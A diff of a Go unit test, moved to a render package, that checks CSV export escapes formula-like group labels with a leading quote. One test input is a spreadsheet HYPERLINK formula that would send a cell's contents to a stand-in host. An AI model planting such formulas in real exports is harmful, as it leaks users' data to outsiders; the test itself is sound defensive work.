@@ -1,16 +1,18 @@
-package queries
+package render
 
 import (
 	"bytes"
 	"encoding/csv"
 	"testing"
+
+	"github.com/h3rum/h3rum/queries"
 )
 
 // Group labels come from what visitors sent (by=connection, collector…):
 // a label a spreadsheet would run as a formula is written as text, with a
 // leading single quote, while the figures beside it, negative ones
 // included, stay numbers.
-func TestWriteCSVEscapesFormulas(t *testing.T) {
+func TestCSVEscapesFormulas(t *testing.T) {
 	lo, hi := -20.25, -3.5
 	for _, tc := range []struct{ group, want string }{
 		{`=HYPERLINK("https://x.example/?"&A1,"4g")`, `'=HYPERLINK("https://x.example/?"&A1,"4g")`},
@@ -27,13 +29,13 @@ func TestWriteCSVEscapesFormulas(t *testing.T) {
 		{"'quoted", "'quoted"},
 		{"", ""},
 	} {
-		rep := &Report{Groups: []Group{{
+		rep := &queries.Report{Groups: []queries.Group{{
 			Group:    tc.group,
-			Paired:   &Paired{Runs: 40, MedianMS: -12.5, MedianCILowMS: &lo, MedianCIHighMS: &hi, P90MS: -1},
-			Failures: []Failure{{Origin: "h3", Error: "-1", Samples: 2}},
+			Paired:   &queries.Paired{Runs: 40, MedianMS: -12.5, MedianCILowMS: &lo, MedianCIHighMS: &hi, P90MS: -1},
+			Failures: []queries.Failure{{Origin: "h3", Error: "-1", Samples: 2}},
 		}}}
 		var b bytes.Buffer
-		if err := rep.WriteCSV(&b); err != nil {
+		if err := CSV(&b, rep); err != nil {
 			t.Fatal(err)
 		}
 		recs, err := csv.NewReader(&b).ReadAll()
